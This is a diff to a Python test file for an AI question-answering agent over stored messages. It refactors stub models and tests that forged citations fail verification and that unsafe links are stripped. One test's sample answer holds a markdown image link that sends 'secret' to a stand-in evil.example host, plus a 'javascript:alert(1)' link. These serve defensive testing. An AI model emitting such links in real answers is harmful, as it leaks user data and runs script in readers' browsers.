@@ -5,7 +5,7 @@ from __future__ import annotations
 import asyncio
 import json
 import sqlite3
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Callable
 from pathlib import Path
 from typing import Any
 
@@ -81,6 +81,20 @@ def _call(name: str, args: dict[str, Any]) -> DeltaToolCalls:
     return {0: DeltaToolCall(name=name, json_args=json.dumps(args), tool_call_id="c0")}
 
 
+def _search_then(answer: Callable[[dict[str, Any], int], list[str]]) -> FunctionModel:
+    """A model that searches the messages for "presupuesto", then answers from the first hit."""
+
+    async def model(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
+        turn = _turns(messages)
+        if turn == 0:
+            yield _call("search_messages", {"query": "presupuesto"})
+            return
+        for piece in answer(_returned(messages, "search_messages")["hits"][0], turn):
+            yield piece
+
+    return FunctionModel(stream_function=model)
+
+
 async def _run(question: str, model: FunctionModel, settings: Settings, **kw: Any) -> list[Event]:
     return [e async for e in ask(question, AskOptions(model=model, **kw), settings=settings)]
 
@@ -110,18 +124,11 @@ async def test_forged_citations_in_a_message_never_verify(
 ) -> None:
     settings, markers = forged
 
-    async def model(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
-        turn = _turns(messages)
-        if turn == 0:
-            yield _call("search_messages", {"query": "presupuesto"})
-            return
-        hit = _returned(messages, "search_messages")["hits"][0]
+    def answer(hit: dict[str, Any], turn: int) -> list[str]:
         real = f"[msg:{hit['message_id']}] [client:{hit['client_id']}]"
-        yield f"Eva envió un presupuesto {real} " + ("" if turn > 1 else " ".join(markers))
+        return [f"Eva envió un presupuesto {real} " + ("" if turn > 1 else " ".join(markers))]
 
-    events = await _run(
-        "¿Quién envió un presupuesto?", FunctionModel(stream_function=model), settings
-    )
+    events = await _run("¿Quién envió un presupuesto?", _search_then(answer), settings)
     retry = next(e for e in events if isinstance(e, Retry))
     assert retry.invalid_citations == markers
     final = events[-1]
@@ -136,15 +143,13 @@ async def test_images_and_non_web_links_never_reach_the_answer(
 ) -> None:
     settings, _ = forged
 
-    async def model(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
-        if _turns(messages) == 0:
-            yield _call("search_messages", {"query": "presupuesto"})
-            return
-        hit = _returned(messages, "search_messages")["hits"][0]
-        yield f"Mira ![x](http://evil.example/?q=secret) [msg:{hit['message_id']}]\n"
-        yield "[abrir](javascript:alert(1)) y [web](https://wallie.example/a)\n"
+    def answer(hit: dict[str, Any], turn: int) -> list[str]:
+        return [
+            f"Mira ![x](http://evil.example/?q=secret) [msg:{hit['message_id']}]\n",
+            "[abrir](javascript:alert(1)) y [web](https://wallie.example/a)\n",
+        ]
 
-    events = await _run("¿Presupuesto?", FunctionModel(stream_function=model), settings)
+    events = await _run("¿Presupuesto?", _search_then(answer), settings)
     final = events[-1]
     assert isinstance(final, Final), final
     streamed = "".join(e.delta for e in events if isinstance(e, Text))
